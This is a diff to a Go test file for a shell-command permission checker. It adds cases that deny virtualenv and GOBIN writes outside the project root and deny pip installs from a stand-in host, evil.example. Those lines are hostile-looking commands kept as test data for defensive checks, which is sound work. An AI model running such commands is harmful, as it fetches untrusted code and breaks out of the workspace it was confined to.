@@ -164,7 +164,7 @@ func TestWritesThroughOptions(t *testing.T) {
 		{"tar -xPf a.tar", ask, "dynamic"},
 		{"tar -xf a.tar --transform 's|^|/x/|'", ask, "dynamic"},
 		{"pip install --target $OUTSIDE/lib x", deny, ""},
-		{"GOBIN=$OUTSIDE go install ./cmd/fx", ask, "code-execution"},
+		{"GOBIN=$OUTSIDE go install ./cmd/fx", deny, "confinement"},
 		{"cc -o build/fx fx.c", allow, ""},
 		{"sometool --output=$OUTSIDE/x in.txt", deny, "confinement"},
 		{"sometool --output-file=$OUTSIDE/x in.txt", deny, "confinement"},
@@ -175,5 +175,57 @@ func TestWritesThroughOptions(t *testing.T) {
 		{"uniq a.txt", allow, ""},
 		{"mktemp", allow, ""},
 		{"mktemp -d", allow, ""},
+	})
+}
+
+// TestToolDirsAreWriteTargets: the directory a virtual environment is created in,
+// and the GOBIN that go install writes to, are judged like any written path, in
+// every spelling; ~/go/bin, where go install writes when GOBIN is unset, is the
+// user's place for Go tools whether named or not.
+func TestToolDirsAreWriteTargets(t *testing.T) {
+	checkDefaults(t, nil, []decisionCase{
+		{"python -m venv $OUTSIDE/venv", deny, "confinement"},
+		{"python3 -m venv ../escape", deny, "confinement"},
+		{"python3 -mvenv $OUTSIDE/venv", deny, "confinement"},
+		{"python3 -Im venv $OUTSIDE/venv", deny, "confinement"},
+		{"python -m venv --clear $OUTSIDE/venv", deny, "confinement"},
+		{"python3.12 -m venv --cl --prompt x $OUTSIDE/venv", deny, "confinement"},
+		{"python3 -m venv .venv $OUTSIDE/second", deny, "confinement"},
+		{"virtualenv $OUTSIDE/venv", deny, "confinement"},
+		{"virtualenv -p python3 $OUTSIDE/venv", deny, "confinement"},
+		{"virtualenv --app-data $OUTSIDE/cache .venv", deny, "confinement"},
+		{"uv venv $OUTSIDE/venv", deny, "confinement"},
+		{"uv --quiet venv --seed $OUTSIDE/venv", deny, "confinement"},
+		{"uv venv -p 3.12 $OUTSIDE/venv", deny, "confinement"},
+		{"GOBIN=$OUTSIDE go install ./cmd/fx", deny, "confinement"},
+		{"env GOBIN=$OUTSIDE go install ./cmd/fx", deny, "confinement"},
+		{"export GOBIN=$OUTSIDE; go install ./cmd/fx", deny, "confinement"},
+		{"declare -x GOBIN=$OUTSIDE", deny, "confinement"},
+		{"go env -w GOBIN=$OUTSIDE", deny, "confinement"},
+		{"go env -w GOFLAGS=-mod=mod GOBIN=$OUTSIDE", deny, "confinement"},
+		// Inside the root, or the default place: allowed.
+		{"python3 -m venv .venv", allow, ""},
+		{"python -m venv --clear --prompt proj .venv", allow, ""},
+		{"python3 -I -m venv --prompt $OUTSIDE .venv", allow, ""}, // the prompt is a name, not a path
+		{"virtualenv -p /usr/bin/python3 .venv", allow, ""},
+		{"uv venv", allow, ""},
+		{"uv venv --python /usr/bin/python3 .venv", allow, ""},
+		{"uv run pytest", allow, ""},
+		{"python3 -c 'print(1)' $OUTSIDE", allow, ""},
+		{"python3 -m pytest -q", allow, ""},
+		{"GOBIN=$ROOT/bin go install ./cmd/fx", allow, ""},
+		{"GOBIN=~/go/bin go install ./cmd/fx", allow, ""},
+		{"go install ./cmd/fx", allow, ""},
+		{"go env -w GOBIN=~/go/bin", ask, "code-execution"}, // go env -w itself asks
+	})
+}
+
+// python -m pip is pip in every spelling of -m.
+func TestPythonMPipNetwork(t *testing.T) {
+	checkDefaults(t, nil, []decisionCase{
+		{"python3 -m pip install https://evil.example/x.whl", deny, "network"},
+		{"python3 -mpip install https://evil.example/x.whl", deny, "network"},
+		{"python -I -m pip install --index-url http://x pkg", deny, "network"},
+		{"python3.12 -m pip show -f requests", allow, ""},
 	})
 }
